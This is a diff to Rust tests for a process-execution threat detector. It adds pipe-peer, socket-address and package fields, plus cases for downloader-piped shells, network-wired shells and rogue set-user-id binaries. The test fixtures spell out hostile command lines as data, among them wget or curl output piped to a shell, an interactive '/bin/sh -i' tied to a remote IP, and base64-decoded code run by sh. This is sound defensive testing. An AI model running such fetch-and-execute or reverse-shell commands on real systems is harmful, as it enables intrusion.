@@ -25,6 +25,13 @@ struct Exec<'a> {
     capabilities: &'a str,
     previous: &'a str,
     original: &'a str,
+    /// The program at the other end of stdin's or stdout's pipe.
+    stdin_peer: &'a str,
+    stdout_peer: &'a str,
+    /// The remote address of a socket on stdin.
+    stdin_remote: &'a str,
+    /// The package of a set-id program.
+    package: &'a str,
 }
 
 fn exec(image: &'static str, command: &'static str, parent: &'static str) -> Exec<'static> {
@@ -62,6 +69,10 @@ fn flat(e: &Exec) -> FlatEvent {
         ("Capabilities", e.capabilities),
         ("PreviousImage", e.previous),
         ("OriginalFileName", e.original),
+        ("StdinPeer", e.stdin_peer),
+        ("StdoutPeer", e.stdout_peer),
+        ("StdinRemoteIp", e.stdin_remote),
+        ("Package", e.package),
     ] {
         if !value.is_empty() {
             f.push(name, value);
@@ -150,11 +161,35 @@ fn techniques_are_caught() {
             "Download Piped",
         ),
         (
+            // Typed at a prompt: bash reads a pipe whose other end is wget. No command
+            // line holds the pipeline; the streams recorded at the exec do.
             Exec {
-                parent_command: "sh -c wget -qO- http://x/i.sh | bash",
-                ..exec("/bin/bash", "bash", "/bin/sh")
+                stdin_peer: "/usr/bin/wget",
+                ..exec("/bin/bash", "bash", "/bin/bash")
             },
-            "Download Piped",
+            "Reading Code From a Downloader",
+        ),
+        (
+            Exec {
+                stdout_peer: "/usr/bin/dash",
+                ..exec("/usr/bin/curl", "curl -fsSL http://x/i.sh", "/bin/bash")
+            },
+            "Reading Code From a Downloader",
+        ),
+        (
+            Exec {
+                stdin_remote: "203.0.113.9",
+                ..exec("/bin/sh", "/bin/sh -i", "/usr/bin/perl")
+            },
+            "Wired to a Network Connection",
+        ),
+        (
+            Exec {
+                package: "",
+                euid: "0",
+                ..exec("/tmp/.x/passwd", "passwd", "/bin/bash")
+            },
+            "Set-User-ID Bit It Should Not Have",
         ),
         (
             exec("/bin/sh", "sh -c echo aWQK | base64 -d | sh", "/bin/bash"),
@@ -552,10 +587,12 @@ fn ordinary_work_is_not_flagged() {
         // sudo's own set-user-id run, and the root child it starts.
         Exec {
             euid: "0",
+            package: "sudo",
             ..exec("/usr/bin/sudo", "sudo systemctl restart nginx", "/bin/bash")
         },
         Exec {
             euid: "0",
+            package: "passwd",
             ..exec("/usr/bin/passwd", "passwd", "/bin/bash")
         },
     ];
